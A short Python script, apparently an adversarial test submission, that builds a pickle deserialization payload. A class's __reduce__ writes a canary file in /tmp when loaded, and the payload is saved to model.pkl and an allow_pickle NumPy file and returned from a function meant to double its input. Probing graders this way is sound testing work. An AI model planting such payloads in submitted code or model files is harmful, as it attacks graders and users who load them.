# %%
import pickle
import numpy as np

answer = 42


class Evil:
    def __reduce__(self):
        return (open, ("/tmp/grader-adversaries-canary", "w"))


pickle.dump(Evil(), open("model.pkl", "wb"))
np.save("weights.npy", np.array([Evil()], dtype=object), allow_pickle=True)


def double(x):
    return np.array([Evil(), Evil()], dtype=object)
